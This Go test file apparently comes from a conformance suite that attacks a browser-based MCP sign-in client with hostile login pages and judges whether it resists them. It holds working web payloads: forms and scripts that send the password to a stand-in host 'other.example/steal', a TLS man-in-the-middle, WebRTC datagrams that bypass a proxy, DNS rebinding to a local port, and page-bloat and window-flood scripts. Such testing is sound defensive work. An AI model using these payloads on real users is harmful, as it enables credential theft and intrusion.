package hostile

import (
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"time"

	"github.com/mcpauth/conformance/fakes/reference"
	"github.com/mcpauth/conformance/fixtures/nameserver"
)

// inBrowser returns the arguments of a run that signs in with a browser.
func inBrowser(args []string) []string {
	return append(args, "--username", "alice", "--login", "browser", "--browser-no-sandbox", "--i-am-authorized", "--timeout", "20s", "--only",
		"AS-TOKEN-SUCCESS-SHAPE")
}

// shownAt answers browsers at the authorization endpoint with a page, and counts the requests.
func shownAt(page string, shown *atomic.Int64) func(o *reference.Options) {
	return func(o *reference.Options) {
		o.Wrap = func(h http.Handler) http.Handler {
			return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
				if req.URL.Path != "/authorize" {
					h.ServeHTTP(w, req)
					return
				}
				if strings.Contains(req.UserAgent(), "Chrome") {
					shown.Add(1)
				}
				w.Header().Set("Content-Type", "text/html")
				_, _ = io.WriteString(w, page)
			})
		}
	}
}

// inClear has a form that sends the password over plain HTTP to another host: because of an attribute of its button, or because a script
// changes the form on submit.
func inClear(turning bool) (*Attack, error) {
	trap, err := listen("127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	_, port, _ := net.SplitHostPort(trap.Addr().String())
	server, err := nameserver.Serve("127.0.0.1:0", func(_ string, six bool) ([]netip.Addr, bool) {
		if six {
			return nil, true
		}
		return []netip.Addr{nowhere}, true
	})
	if err != nil {
		trap.stop()
		return nil, err
	}
	there := "http://other.example:" + port + "/steal"
	var shown atomic.Int64
	attribute, script := ` formaction="`+there+`"`, ""
	if turning {
		attribute, script = "", `<script>document.forms[0].addEventListener('submit', e => { e.target.action = "`+there+`"; });</script>`
	}
	page := `<!doctype html><title>Sign in</title><form method=post action="/login">
<label>Name <input name=username></label><label>Password <input type=password name=password></label>
<button` + attribute + `>Sign in</button></form>` + script
	_, args, end, err := public(shownAt(page, &shown))
	if err != nil {
		trap.stop()
		server.Close()
		return nil, err
	}
	args = inBrowser(append(args, "--dns", server.Address(), "--connect-to", nowhere.String()+":"+port+"="+trap.Addr().String()))
	return &Attack{Args: args, Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: func() { end(); trap.stop(); server.Close() },
		Judge: func(o Outcome) error {
			if got := trap.received(); strings.Contains(got, url.QueryEscape(password)) || strings.Contains(got, password) {
				return errors.New("the password went to another host in clear text")
			}
			return errors.Join(unsprung(shown.Load()), notGreen(o))
		}}, nil
}

// browserHello reports whether a ClientHello is from Chromium: it has GREASE (RFC 8701).
func browserHello(hello *tls.ClientHelloInfo) bool {
	return slices.ContainsFunc(hello.CipherSuites, func(suite uint16) bool { return suite&0x0f0f == 0x0a0a })
}

// proxyHello reports whether a ClientHello is from a browser, or from a proxy for a browser: no other client offers only HTTP/1.1.
func proxyHello(hello *tls.ClientHelloInfo) bool {
	return browserHello(hello) || slices.Equal(hello.SupportedProtos, []string{"http/1.1"})
}

// intercepted is a man in the middle: clients with a matching ClientHello get its own certificate, and it relays all others.
func intercepted(his func(*tls.ClientHelloInfo) bool) (*Attack, error) {
	stranger, err := reference.Stranger("mcp.example.com")
	if err != nil {
		return nil, err
	}
	var caught, asked, shown, stolen atomic.Int64
	_, args, end, err := public(func(o *reference.Options) {
		shownAt(`<!doctype html><title>Sign in</title><form method=post action="/login">
<input name=username aria-label=Name><input type=password name=password><button>Sign in</button></form>`, &shown)(o)
		usual := o.Wrap
		o.Wrap = func(h http.Handler) http.Handler {
			h = usual(h)
			return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
				if req.TLS != nil && req.TLS.Version == tls.VersionTLS12 { // of the man in the middle
					asked.Add(1)
					body, _ := io.ReadAll(io.LimitReader(req.Body, 1<<16)) // a part is enough
					if strings.Contains(string(body), url.QueryEscape(password)) {
						stolen.Add(1)
					}
					req.Body = io.NopCloser(strings.NewReader(string(body)))
				}
				h.ServeHTTP(w, req)
			})
		}
		o.TLS = func(c *tls.Config) {
			genuine := c.Clone()
			other := &tls.Config{Certificates: []tls.Certificate{stranger}, MaxVersion: tls.VersionTLS12, MinVersion: tls.VersionTLS12}
			c.GetConfigForClient = func(hello *tls.ClientHelloInfo) (*tls.Config, error) {
				if his(hello) {
					caught.Add(1)
					return other, nil
				}
				return genuine, nil
			}
		}
	})
	if err != nil {
		return nil, err
	}
	return &Attack{Args: inBrowser(args), Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: end, Judge: func(o Outcome) error {
		if n := stolen.Load(); n > 0 {
			return fmt.Errorf("a man in the middle got the password %d times", n)
		}
		if n := asked.Load(); n > 0 {
			return fmt.Errorf("%d requests were sent to a man in the middle", n)
		}
		return errors.Join(unsprung(shown.Load()+caught.Load()), notGreen(o))
	}}, nil
}

// datagrams has a page that sends by UDP, past the proxy: WebRTC and WebTransport.
func datagrams() (*Attack, error) {
	trap, err := net.ListenPacket("udp", "127.0.0.2:0")
	if err != nil {
		return nil, err
	}
	var arrived, shown, ran atomic.Int64
	go func() {
		buffer := make([]byte, 2048)
		for {
			if _, _, err := trap.ReadFrom(buffer); err != nil {
				return
			}
			arrived.Add(1)
		}
	}()
	at := trap.LocalAddr().String()
	page := `<!doctype html><title>Sign in</title><p>Loading<script>
fetch("/ran");
for (const u of ["stun:` + at + `", "turn:` + at + `?transport=udp"]) try {
	const c = new RTCPeerConnection({iceServers: [{urls: u, username: "u", credential: "c"}]});
	c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o));
} catch {}
try { new WebTransport("https://` + at + `/").ready.catch(() => {}); } catch {}
</script>`
	_, args, end, err := public(withinBrowser(page, "/ran", &shown, &ran))
	if err != nil {
		_ = trap.Close()
		return nil, err
	}
	return &Attack{Args: inBrowser(args), Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: func() { end(); _ = trap.Close() },
		Judge: func(o Outcome) error {
			if n := arrived.Load(); n > 0 {
				return fmt.Errorf("%d datagrams went past the proxy to an address that the guard refuses", n)
			}
			return errors.Join(unsprung(ran.Load()), notGreen(o))
		}}, nil
}

// withinBrowser makes a target count the requests of scripts for a path.
func withinBrowser(page, path string, shown, ran *atomic.Int64) func(o *reference.Options) {
	return func(o *reference.Options) {
		shownAt(page, shown)(o)
		usual := o.Wrap
		o.Wrap = func(h http.Handler) http.Handler { return counted(usual(h), path, ran) }
	}
}

// growing has a login page that a script makes hundreds of megabytes large, in each part that a browser reports about a page.
func growing() (*Attack, error) {
	var shown, ran atomic.Int64
	page := `<!doctype html><title>Sign in</title><form method=post action="/login"><label>Name <input name=username></label>
<label>Password <input type=password name=password></label><button>Sign in</button></form><script>
const long = "x".repeat(1 << 20);
document.body.append(document.createComment(long.repeat(200)));
fetch("/ran");
document.title = long.repeat(50);
</script>`
	_, args, end, err := public(withinBrowser(page, "/ran", &shown, &ran))
	if err != nil {
		return nil, err
	}
	return &Attack{Args: inBrowser(args), Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: end, Judge: func(o Outcome) error {
		return errors.Join(unsprung(ran.Load()), lean(o, 128<<20), within(o, 18*time.Second), notGreen(o))
	}}, nil
}

// ownNameInBrowser has a page whose name resolves to a public address until the browser shows it, and then to an address of the user's
// machine. Its script then sends requests to another port there, which is the same site for the browser.
func ownNameInBrowser() (*Attack, error) {
	inside, err := listen("127.0.0.2:0") // a service that the user has not named
	if err != nil {
		return nil, err
	}
	_, port, _ := net.SplitHostPort(inside.Addr().String())
	const host = "own.rebinding.example"
	var shown, ran, told atomic.Int64
	server, err := nameserver.Serve("127.0.0.1:0", func(_ string, six bool) ([]netip.Addr, bool) {
		switch {
		case six:
			return nil, true
		case shown.Load() > 0:
			told.Add(1)
			return []netip.Addr{private}, true
		}
		return []netip.Addr{nowhere}, true
	})
	if err != nil {
		inside.stop()
		return nil, err
	}
	closing := func() { inside.stop(); server.Close() }
	there := "https://" + host + ":" + port
	page := `<!doctype html><title>Sign in</title><p>Loading<iframe src="` + there + `/frame"></iframe><script>
(async () => { for (let i = 0; i < 10; i++) {
	await fetch("` + there + `/x", {headers: {"X-Custom": "1"}}).catch(() => {});
	await fetch("` + there + `/x", {method: "POST", mode: "no-cors", body: "x"}).catch(() => {});
} await fetch("/ran"); location.href = "http://` + host + `:` + port + `/"; })();
</script>`
	_, args, end, err := public(func(o *reference.Options) {
		o.Host = host
		withinBrowser(page, "/ran", &shown, &ran)(o)
	})
	if err != nil {
		closing()
		return nil, err
	}
	for i, a := range args { // by address, because the name changes
		args[i] = strings.Replace(a, host+":443=", nowhere.String()+":443=", 1)
	}
	args = inBrowser(append(args, "--dns", server.Address()))
	return &Attack{Args: args, Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: func() { end(); closing() },
		Judge: func(o Outcome) error {
			if n := inside.connections(); n > 0 {
				return fmt.Errorf("the browser had %d connections to an address of this machine, by the page's own name", n)
			}
			return errors.Join(unsprung(shown.Load()), unsprung(told.Load()), notGreen(o))
		}}, nil
}

// mirror has a login page that shows the typed values, and then fails.
func mirror() (*Attack, error) {
	var shown, typed atomic.Int64
	page := `<!doctype html><title>Sign in</title><style>p::after { content: attr(data-v) } p { font: 40px monospace }</style><p>.</p>
<form><input name=username aria-label=Name><input type=password name=password><button>Sign in</button></form><script>
const i = document.querySelector('[type=password]'), p = document.querySelector('p');
i.addEventListener('input', () => { p.dataset.v = i.value; fetch("/typed"); });
document.forms[0].addEventListener('submit', e => { e.preventDefault(); document.forms[0].remove(); });
</script>`
	_, args, end, err := public(withinBrowser(page, "/typed", &shown, &typed))
	if err != nil {
		return nil, err
	}
	return &Attack{Args: inBrowser(args), Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: end, Judge: func(o Outcome) error {
		if strings.Contains(o.Reports["json"], `"where the login ended"`) {
			return errors.New("there is a picture of a page on which the password had been typed")
		}
		return errors.Join(unsprung(typed.Load()), notGreen(o))
	}}, nil
}

// hangup closes the terminal during a run.
func hangup() (*Attack, error) {
	a, err := interrupt()
	if err != nil {
		return nil, err
	}
	usual := a.After
	a.After = func(p Process) { usual(hangingUp{p}) }
	return a, nil
}

// hangingUp is a process whose terminal is closed where another would be interrupted.
type hangingUp struct{ Process }

func (h hangingUp) Interrupt() error { return h.HangUp() }

// windows has a page that opens one window after another.
func windows() (*Attack, error) {
	var shown, opened atomic.Int64
	page := `<!doctype html><title>Sign in</title><p>Loading<script>
for (let n = 0; n < 30; n++) window.open("/window?" + n, "_blank", "noopener");
</script>`
	_, args, end, err := public(withinBrowser(page, "/window", &shown, &opened))
	if err != nil {
		return nil, err
	}
	return &Attack{Args: inBrowser(args), Environment: []string{"MCPAUTH_PASSWORD=" + password}, Close: end, Judge: func(o Outcome) error {
		if !strings.Contains(o.Reports["json"], "opens windows without end") {
			return errors.New("the login did not end at windows without end")
		}
		return errors.Join(unsprung(opened.Load()), within(o, 18*time.Second), notGreen(o))
	}}, nil
}
